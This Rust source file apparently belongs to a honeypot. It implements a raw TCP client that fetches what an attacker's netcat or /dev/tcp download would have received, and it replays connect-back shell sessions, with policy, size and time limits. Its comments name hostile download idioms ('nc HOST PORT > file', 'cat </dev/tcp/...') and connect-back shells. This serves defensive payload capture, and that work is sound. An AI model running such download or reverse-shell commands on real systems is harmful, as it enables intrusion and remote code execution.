//! Raw TCP client: what `nc HOST PORT > file` or `cat </dev/tcp/HOST/PORT > file` would
//! have received. The C honeytrap had no such download; attack strings use it on systems
//! without a download program.
//!
//! The client connects from the attacked address (as the other clients do), sends nothing
//! and keeps every byte until the server closes the connection. The server is hostile: the
//! address goes through the `Policy`, the file is capped by `Limits::max_size`, every read
//! by the download's deadline; a server that does not close before the deadline gives
//! `Error::Timeout` and no file (the victim's `nc` would still be waiting).
//!
//! cspm's connect-backs use the same client: the request's data (a key) is sent first, and
//! for a shell ([`SHELL`] as the request's path) what arrived by the deadline is kept, since
//! the far side of a shell need not close.

use super::{Context, Error, Fetched};
use std::io::{ErrorKind, Read, Write};
use std::net::SocketAddr;

/// The path of a request for a connect-back shell's session.
pub const SHELL: &str = "shell";

/// Size of one read.
const BUF_SIZE: usize = 16 * 1024;

/// Sends `first`, then reads what `server` sends until it closes (or, for a `shell`, until
/// the deadline). Failures are logged (NOISY) and returned; the caller logs the success.
pub fn fetch(server: SocketAddr, first: &[u8], shell: bool, ctx: &Context) -> Result<Fetched, Error> {
    let result = stream(server, first, shell, ctx);
    if let Err(e) = &result {
        crate::log_noisy!("TCP download - tcp://{} failed: {}.", server, e);
    }
    result
}

fn stream(server: SocketAddr, first: &[u8], shell: bool, ctx: &Context) -> Result<Fetched, Error> {
    ctx.policy.check(server.ip())?;
    let mut tcp = super::connect_from_attacked(server, ctx)?;
    crate::log_debug!("TCP download - connected to {}.", server);
    if !first.is_empty() {
        tcp.set_write_timeout(Some(ctx.wait()?))?;
        tcp.write_all(first)?;
    }
    let mut data = Vec::new();
    let mut buf = vec![0u8; BUF_SIZE];
    loop {
        let wait = match ctx.wait() {
            Ok(w) => w,
            Err(_) if shell && !data.is_empty() => break,
            Err(e) => return Err(e),
        };
        tcp.set_read_timeout(Some(wait))?;
        let n = match tcp.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => n,
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            // A quiet shell: wait on until the deadline, then keep what was typed.
            Err(e) if shell && matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => continue,
            Err(e) => return Err(e.into()),
        };
        if data.len() + n > ctx.limits.max_size {
            return Err(Error::TooLarge(ctx.limits.max_size));
        }
        data.extend_from_slice(&buf[..n]);
    }
    Ok(Fetched { data, remote: server, uri: format!("tcp://{}", server) })
}
